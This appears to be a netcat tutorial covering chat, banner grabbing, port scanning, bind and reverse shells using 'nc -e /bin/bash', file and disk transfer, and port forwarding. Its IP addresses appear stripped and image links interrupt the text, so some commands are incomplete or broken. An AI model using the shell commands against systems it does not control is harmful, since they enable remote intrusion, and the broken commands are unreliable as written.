Netcat Ninjutsu

Netcat is a an extremly flexible tool. It follows the Unix physiology that programs should do one thing and do it well. At it's simplest netcat allowsyou to connect to and listen to UDP or TCP sockets but as I'll show it can be very powerful. It comes standard on most Unix's including Linux and BSD and can be freely downloaded for windows.

Network Chat
To begin we'll look at setting up a server and a client to create a simple instant messenger. To start a server listening on port 4242 we just run:
netcat -v -lp 4242
On the client side we connect to our server ( on port 4242 with:
nc -v 4242
From here if you type any message on either computer the message will appear on the other.

Banner grabbing
To grab the banner of a website just do:netcat -v 80
and enter any invalid text like 'hello'
localhost.localdomain [] 80 (www) open
<title>501 Method Not Implemented</title>
<h1>Method Not Implemented</h1>
<p>hello to /index.html not supported.<br />
<address>Apache/2.2.16 (Ubuntu) Server at Port 80</address>
Here we can see the host is running Apache 2.2.16 on Ubuntu

Port Scanning
It is possible to use netcat as a very simple port scanner. With the following command it will scan on tcp ports from 1 to 1000:
nc -v -w 1 -z 1-1000
 You can see below that ports 80,139,445,902 are open.
user@pc~$ nc -v -w 1 -z 1-1000
pc [] 902 (?) open
pc [] 445 (microsoft-ds) open
pc [] 139 (netbios-ssn) open
pc [] 80 (www) open
Remote shell

So far we have used netcat on its own but the real beauty of the Unix philosophy isprograms can be chained together to make them more powerful. Each takes care of its small part, in this case netcat can provide the network connection to another program. If for instance we wanted a remote console or shell we can connect the shell program bash to a listening netcat server on port 4242 with:
nc -lvp 4242 -e /bin/bash
or the console in windows with:
nc -lvp 4242 -e cmd.exe
To connect simple use:
nc -v 4242
user@pc~$ nc -v 4242
pc [] 4242 (?) open
eth0      Link encap:Ethernet  HWaddr d4:9a:20:e4:d8:1c
          inet addr:  Bcast:  Mask:
          inet6 addr: fe80::d69a:20ff:fee4:d81c/64 Scope:Link
          RX packets:2215688 errors:1 dropped:0 overruns:0 frame:1
          TX packets:1935623 errors:0 dropped:0 overruns:0 carrier:0
          collisions:0 txqueuelen:1000
          RX bytes:2006473900 (2.0 GB)  TX bytes:572179986 (572.1 MB)
          Interrupt:42 Base address:0x4000

Reverse remote shell
In the previous example we created a server that allowed a client to connect. Upon connection the client was given a shell. To get around firewalls and IP address issues sometimes we need a reverse shell. In this case the client connects to the server and provides it with a shell. We also use port 80 which is probably allowed by the firewall. We set up the waiting server with:nc -lvp 80
And connect with the shell with:
nc -vn 80 -e /bin/bash
This time the server is dropped into the shell. But when we disconnect the server will close, but we'd like to keep it available so we can reconnect. To do this e can put a loop around it with:
while true; nc -lvp 80; done
Now the while loop will restart the server when it exits.

File transfer
Netcat simply sends data accross the network, it doesn't care what data it is so we are able to send files by piping data in and out of netcat. To send a file we first set up a server that will receive the file:
server: nc -vn -lp 4242 > fileRecieved
Then we connect with the client and send the data to the client:
client: nc -vn 4242 < fileSent
Stream music
Since it's just data we can also stream music.
nc -lp 4242 | mpg123
cat mySong.mp3 | netcat 4242
Copy an entire hard drive across the internet
We can even copy and entire drive over a network or the internet by connecting dd and nc:

nc -l -p 4242 | dd of=/dev/sda

dd if=/dev/sda | nc 4242

Keep in mind that the drives must be unmounted and that the it will take a while.Web server
You can even throw together a quick and dirty webserver with:
while true; do nc -l -p 80 -q 1 < index.html; done
Port forwarding
We can even connect netcat to netcat to redirect traffic. In the following example we have a netcat server listening on port 8080. Any traffic coming to port 8080 is piped into a netcat client connectedto port 80
nc -l 8080 | nc 80